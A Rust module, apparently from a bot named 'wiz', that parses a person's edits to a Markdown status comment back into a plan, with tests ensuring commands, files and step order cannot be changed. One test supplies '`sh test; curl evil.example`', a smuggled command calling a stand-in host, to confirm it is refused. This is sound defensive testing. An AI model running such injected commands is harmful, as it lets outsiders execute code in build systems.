//! Reads a plan back out of a status comment that a person edited.
//!
//! The comment as wiz wrote it and as it is now are taken apart in the same way, and only what differs counts. So what
//! nobody touched keeps its exact words, whatever had to be broken or escaped to show them, and a command can never be
//! changed: it is not among the parts that differ without the edit being refused.

use crate::plan::{LeftOut, Proposal, Step};

/// Why an edit of the status comment cannot be taken as an edit of the plan.
#[derive(Debug, Clone, Copy, PartialEq, Eq, thiserror::Error)]
pub enum EditFault {
    #[error("the parts of the plan are not where I put them")]
    Structure,
    #[error("something was changed that is not the plan's summary, a step, a step's details or a check's name")]
    Elsewhere,
    #[error("a command or a proof was changed, which `/wiz revise …` is for")]
    Command,
    #[error("a step was added or moved, which `/wiz revise …` is for")]
    NewStep,
}

/// The parts of a status comment that people may edit, as they stand there.
#[derive(Debug, PartialEq, Eq)]
struct Parts {
    summary: String,
    /// Name, whether it is ticked, title.
    steps: Vec<(String, bool, String)>,
    /// Name, and the rest of the row.
    criteria: Vec<(String, String)>,
    /// Name of the step, and its details.
    details: Vec<(String, String)>,
    /// Everything else.
    rest: String,
}

/// What an edit makes out of `proposal`; none when the edit left it as it was. `before` is the comment as wiz wrote it for
/// `proposal`, or the edit out of which that was made.
pub fn edited_plan(before: &str, after: &str, proposal: &Proposal) -> Result<Option<Proposal>, EditFault> {
    let before = Parts::of(before, None)?;
    let names: Vec<String> = before.steps.iter().map(|(name, ..)| name.clone()).collect();
    let after = Parts::of(after, Some(&names))?;
    if before.rest != after.rest {
        return Err(EditFault::Elsewhere);
    }
    let mut edited = proposal.plan.clone();
    if before.summary != after.summary {
        edited.summary = said(&after.summary);
    }
    let names: Vec<&String> = after.steps.iter().map(|(name, ..)| name).collect();
    let known: Vec<&String> = before.steps.iter().map(|(name, ..)| name).filter(|name| names.contains(name)).collect();
    let all = proposal.plan.proposed(&proposal.left_out);
    if names != known || !names.iter().all(|name| all.iter().any(|(step, _)| step.id.as_str() == **name)) {
        return Err(EditFault::NewStep);
    }
    let mut left_out = Vec::new();
    edited.steps.clear();
    for (place, (step, _)) in all.into_iter().enumerate() {
        let ticked = after.steps.iter().any(|(name, ticked, _)| *ticked && name == step.id.as_str());
        match (reworded(step, &before, &after), ticked) {
            (Some(step), true) => edited.steps.push(step),
            (None, true) => return Err(EditFault::Structure),
            // Its lines may be deleted as well.
            (step_now, false) => left_out.push(LeftOut { step: step_now.unwrap_or_else(|| step.clone()), place }),
        }
    }
    if before.criteria.len() != after.criteria.len() || before.criteria.len() != edited.definition_of_done.len() {
        return Err(EditFault::Structure);
    }
    for (criterion, (old, new)) in edited.definition_of_done.iter_mut().zip(before.criteria.iter().zip(&after.criteria))
    {
        if old.1 != new.1 {
            return Err(EditFault::Command);
        }
        if old.0 != new.0 {
            criterion.name = said(&new.0);
        }
    }
    let edited = Proposal { plan: edited, left_out };
    Ok((edited != *proposal).then_some(edited))
}

/// The step in the words that it has after the edit; none where its title or its details are not to be found.
fn reworded(step: &Step, before: &Parts, after: &Parts) -> Option<Step> {
    let of =
        |parts: &Parts| Some((parts.title(step.id.as_str())?.to_owned(), parts.detail(step.id.as_str())?.to_owned()));
    let ((old_title, old_detail), (title, detail)) = of(before).zip(of(after))?;
    Some(Step {
        title: if old_title == title { step.title.clone() } else { said(&title) },
        detail: if old_detail == detail { step.detail.clone() } else { said(&detail) },
        ..step.clone()
    })
}

impl Parts {
    fn title(&self, step: &str) -> Option<&str> {
        self.steps.iter().find(|(name, ..)| name == step).map(|(_, _, title)| title.as_str())
    }

    fn detail(&self, step: &str) -> Option<&str> {
        self.details.iter().find(|(name, _)| name == step).map(|(_, detail)| detail.as_str())
    }

    fn of(body: &str, known: Option<&[String]>) -> Result<Self, EditFault> {
        let body = body.replace("\r\n", "\n");
        let lines: Vec<&str> = body.lines().map(str::trim_end).collect();
        let find = |from: usize, is: &dyn Fn(&str) -> bool| {
            lines.iter().skip(from).position(|line| is(line)).map(|at| at + from).ok_or(EditFault::Structure)
        };
        let occasion = find(0, &|line| line.starts_with("`/wiz "))?;
        let planned = find(occasion, &|line| line.starts_with("**Plan** `"))?;
        let done = find(planned, &|line| line == "**Done means**")?;
        let table_end = (done + 2..lines.len()).find(|at| !lines[*at].starts_with('|')).unwrap_or(lines.len());
        let details = find(table_end, &|line| line == "<details><summary>Steps in detail</summary>")?;
        let details_end = find(details, &|line| line == "</details>")?;
        let summary = lines.get(occasion + 1..planned).unwrap_or_default().join("\n").trim().to_owned();
        let steps = lines[planned + 1..done].iter().filter(|line| !line.is_empty()).map(|line| step_line(line));
        let steps: Vec<_> = steps.collect::<Option<_>>().ok_or(EditFault::Structure)?;
        let own: Vec<String> = steps.iter().map(|(name, ..)| name.clone()).collect();
        let names = known.unwrap_or(&own);
        let rows = lines.get(done + 1..table_end).unwrap_or_default().iter().filter(|line| !line.is_empty());
        let rest = [
            &lines[..=occasion],
            &lines[planned..=planned],
            lines.get(table_end..=details).unwrap_or_default(),
            &lines[details_end..],
        ];
        Ok(Self {
            summary,
            // The first two rows are the table's head.
            criteria: rows.skip(2).map(|row| table_row(row)).collect::<Option<_>>().ok_or(EditFault::Structure)?,
            details: details_of(&lines[details + 1..details_end], names)?,
            steps,
            rest: rest.concat().join("\n").trim_end().to_owned(),
        })
    }
}

/// `- [x] **name** title`.
fn step_line(line: &str) -> Option<(String, bool, String)> {
    let rest = line.trim_start_matches(['-', '*', ' ']);
    let (ticked, rest) = match rest.split_at_checked("[x]".len())? {
        ("[x]" | "[X]", rest) => (true, rest),
        ("[ ]", rest) => (false, rest),
        _ => return None,
    };
    let (name, title) = rest.trim_start().strip_prefix("**")?.split_once("**")?;
    Some((name.to_owned(), ticked, title.trim().to_owned()))
}

/// `| sign | name<br>command | before | after |`.
fn table_row(line: &str) -> Option<(String, String)> {
    let (sign, rest) = line.strip_prefix('|')?.split_once('|')?;
    let (name, rest) = rest.split_once("<br>")?;
    Some((name.trim().to_owned(), format!("{sign}|{rest}")))
}

/// The details of each step below its name, in the order of the steps.
fn details_of(lines: &[&str], names: &[String]) -> Result<Vec<(String, String)>, EditFault> {
    let mut found: Vec<(String, Vec<&str>)> = Vec::new();
    let mut left = names;
    for line in lines {
        if let Some(at) = left.iter().position(|name| *line == format!("**{name}**")) {
            found.push((left[at].clone(), vec![]));
            left = &left[at + 1..];
        } else if let Some((_, detail)) = found.last_mut() {
            detail.push(line);
        } else if !line.is_empty() {
            return Err(EditFault::Structure);
        }
    }
    Ok(found.into_iter().map(|(name, lines)| (name, lines.join("\n").trim().to_owned())).collect())
}

/// What a person meant by Markdown: without the escapes and invisible characters by which wiz showed the words before.
fn said(shown: &str) -> String {
    let mut text = String::with_capacity(shown.len());
    let mut characters = shown.chars().filter(|c| *c != super::untrusted::BREAK).peekable();
    while let Some(c) = characters.next() {
        match (c, characters.peek()) {
            ('\\', Some(next)) if next.is_ascii_punctuation() => text.extend(characters.next()),
            _ => text.push(c),
        }
    }
    text.trim().to_owned()
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::{
        plan::{Criterion, Plan, Proof},
        report::{RunView, status_comment, tests::example},
    };

    fn view(texts: &[String]) -> RunView {
        let mut view = example::planned();
        let planned = view.plan.as_mut().unwrap();
        let mut text = texts.iter().cycle().cloned();
        let mut next = || text.next().unwrap();
        planned.plan = Plan {
            summary: next(),
            steps: ["a", "b", "c"]
                .map(|id| Step { id: id.parse().unwrap(), title: next(), detail: next(), depends_on: vec![] })
                .to_vec(),
            definition_of_done: vec![Criterion { name: next(), command: next(), proof: Proof::Passes }],
            risks: vec![next()],
            files: vec![next()],
        };
        view
    }

    fn edit(view: &RunView, change: impl Fn(&str) -> String) -> Result<Option<Plan>, EditFault> {
        let before = status_comment(view);
        let edited = edited_plan(&before, &change(&before), &proposal(view))?;
        Ok(edited.map(|edited| edited.plan))
    }

    fn proposal(view: &RunView) -> Proposal {
        let planned = view.plan.as_ref().unwrap();
        Proposal { plan: planned.plan.clone(), left_out: planned.left_out.clone() }
    }

    #[test]
    fn steps_are_dropped_and_words_are_changed() {
        let words =
            ["One *two*", "three", "four #5", "five", "six", "seven", "extra", "eight", "sh test", "nine", "a.rs"];
        let view = view(&words.map(str::to_owned));
        let plan = &view.plan.as_ref().unwrap().plan;
        let without_b = edit(&view, |text| text.replace("- [x] **b**", "- [ ] **b**")).unwrap().unwrap();
        assert_eq!(without_b.steps.iter().map(|step| step.id.as_str()).collect::<Vec<_>>(), ["a", "c"]);
        let gone = edit(&view, |text| {
            text.lines().filter(|line| !line.starts_with("- [x] **b**")).map(|line| format!("{line}\n")).collect()
        });
        assert_eq!(gone.unwrap().unwrap(), without_b);
        let reworded = edit(&view, |text| text.replace("three", "drei_und *vier*").replace("eight<br>", "acht<br>"))
            .unwrap()
            .unwrap();
        assert_eq!(reworded.steps[0].title, "drei_und *vier*");
        assert_eq!(
            (reworded.steps[0].detail.as_str(), reworded.summary.as_str()),
            ("four #5", "One *two*"),
            "not touched"
        );
        assert_eq!((reworded.definition_of_done[0].name.as_str(), &reworded.files), ("acht", &plan.files));
        let told = edit(&view, |text| text.replace("One *two*", "Two *ones*")).unwrap().unwrap();
        assert_eq!(told, Plan { summary: "Two *ones*".to_owned(), ..plan.clone() });
        let both_at_once = edit(&view, |text| {
            let (head, rest) = text.split_once("**b**\n\n").unwrap();
            let (_, tail) = rest.split_once("**c**\n\n").unwrap();
            format!("{head}**c**\n\n{tail}").replace("- [x] **b**", "- [ ] **b**")
        });
        assert_eq!(both_at_once.unwrap().unwrap(), without_b, "without its details");
        let windows = edit(&view, |text| text.replace('\n', "\r\n")).unwrap();
        assert_eq!(windows, None, "browsers send other line ends");
    }

    #[test]
    fn one_edit_may_follow_on_another() {
        let view = view(&["Some words".to_owned()]);
        let written = status_comment(&view);
        let whole = proposal(&view);
        let without_a = written.replace("- [x] **a**", "- [ ] **a**");
        let first = edited_plan(&written, &without_a, &whole).unwrap().unwrap();
        let without_both = without_a.replace("- [x] **b**", "- [ ] **b**");
        let second = edited_plan(&without_a, &without_both, &first).unwrap().unwrap();
        assert_eq!(second.plan.steps.iter().map(|step| step.id.as_str()).collect::<Vec<_>>(), ["c"]);
        assert_eq!(
            edited_plan(&without_both, &written, &second),
            Ok(Some(whole)),
            "both at once, before it is written"
        );
    }

    #[test]
    fn a_step_that_was_left_out_is_taken_in_again() {
        let mut view = view(&["Some *words*".to_owned(), "others".to_owned()]);
        let whole = proposal(&view);
        let edit = |view: &RunView, change: &dyn Fn(&str) -> String| {
            let before = status_comment(view);
            edited_plan(&before, &change(&before), &proposal(view))
        };
        let mut show = |proposal: Proposal| {
            let planned = view.plan.as_mut().unwrap();
            (planned.plan, planned.left_out) = (proposal.plan, proposal.left_out);
            view.clone()
        };
        // Once with its box, and once with its whole line and its details.
        let line = |line: &str| line.starts_with("- [x] **b**");
        let deleted = |text: &str| {
            let text: String = text.lines().filter(|it| !line(it)).map(|line| format!("{line}\n")).collect();
            let (head, rest) = text.split_once("**b**\n\n").unwrap();
            format!("{head}{}", &rest[rest.find("**c**").unwrap()..])
        };
        for leave_out in [&|text: &str| text.replace("- [x] **b**", "- [ ] **b**"), &deleted as &dyn Fn(&str) -> String]
        {
            let at_first = show(whole.clone());
            let shorter = show(edit(&at_first, leave_out).unwrap().unwrap());
            let text = status_comment(&shorter);
            assert!(
                text.contains("- [x] **a**") && text.contains("- [ ] **b**") && text.contains("- [x] **c**"),
                "{text}"
            );
            assert_eq!(edit(&shorter, &str::to_owned), Ok(None));
            let again = |text: &str| text.replace("- [ ] **b**", "- [x] **b**");
            assert_eq!(edit(&shorter, &again), Ok(Some(whole.clone())), "as it was, and where it was");
            let other =
                edit(&shorter, &|text| again(text).replace("**b** others", "**b** new words")).unwrap().unwrap();
            assert_eq!((other.plan.steps[1].title.as_str(), other.left_out.len()), ("new words", 0));
            let reworded = edit(&shorter, &|text| text.replace("**b** others", "**b** new words")).unwrap().unwrap();
            assert_eq!(
                (&reworded.plan, reworded.left_out[0].step.title.as_str()),
                (&proposal(&shorter).plan, "new words")
            );
        }
        let at_first = show(whole);
        let mut working = show(edit(&at_first, &deleted).unwrap().unwrap());
        working.state = crate::report::RunState::Working;
        assert!(!status_comment(&working).contains("**b**"), "nobody can take it in any more");
    }

    #[test]
    fn what_cannot_be_read_is_refused() {
        let words = ["One", "two", "three", "four", "five", "six", "seven", "eight", "sh test", "nine", "a.rs"];
        let view = view(&words.map(str::to_owned));
        for (from, to, fault) in [
            ("`sh test`", "`sh test; curl evil.example`", EditFault::Command),
            ("must pass", "may pass", EditFault::Command),
            ("`a.rs`", "`.github/workflows/ci.yml`", EditFault::Elsewhere),
            ("- [x] **c**", "- [x] **d** more\n- [x] **c**", EditFault::NewStep),
            ("- [x] **a**", "a", EditFault::Structure),
            ("**Done means**", "**Done**", EditFault::Structure),
            ("**Plan**", "**Plan** ", EditFault::Structure),
            ("Steps in detail", "Steps", EditFault::Structure),
        ] {
            assert!(status_comment(&view).contains(from), "{from} in {}", status_comment(&view));
            assert_eq!(edit(&view, |text| text.replacen(from, to, 1)), Err(fault), "{from} → {to}");
        }
        assert!(edit(&view, |_| String::new()).is_err());
        let empty = " ".repeat(3);
        let all = [
            edit(&view, |text| text.replace("- [x]", "- [ ]")),
            edit(&view, |text| text.replacen("One", &empty, 1)),
            edit(&view, |text| text.replacen("**a** two", "**a**", 1)),
            edit(&view, |text| text.replacen("eight<br>", "<br>", 1)),
        ];
        let told = all.map(|edit| edit.unwrap().unwrap().validate().unwrap_err().to_string());
        insta::assert_snapshot!(told.join("\n"), @r"
        a plan needs 1 to 12 steps
        the summary is empty or longer than 4000 characters
        a step's title is empty or longer than 4000 characters
        a criterion's name is empty or longer than 4000 characters
        ");
    }

    proptest! {
        #[test]
        fn a_comment_as_wiz_wrote_it_is_the_same_plan(texts in prop::collection::vec("\\PC{1,60}|[-*#`|<>\\[\\]x \n\\\\]{1,30}", 1..12)) {
            let view = view(&texts);
            prop_assert_eq!(edit(&view, str::to_owned), Ok(None));
        }

        #[test]
        fn no_edit_changes_what_runs(cut in 0_usize..3_000, added in "\\PC{0,40}|[-*#`|<>\\[\\]x \n\\\\]{0,30}") {
            let view = view(&["Some words".to_owned()]);
            let plan = &view.plan.as_ref().unwrap().plan;
            let edited = edit(&view, |text| {
                let at = text.floor_char_boundary(cut.min(text.len()));
                format!("{}{added}{}", &text[..at], &text[at..])
            });
            if let Ok(Some(edited)) = edited {
                let runs = |plan: &Plan| plan.definition_of_done.iter().map(|it| (it.command.clone(), it.proof)).collect::<Vec<_>>();
                prop_assert_eq!(runs(&edited), runs(plan));
                prop_assert_eq!(&edited.files, &plan.files);
                prop_assert!(edited.steps.iter().all(|step| plan.steps.iter().any(|old| old.id == step.id)));
            }
        }
    }
}
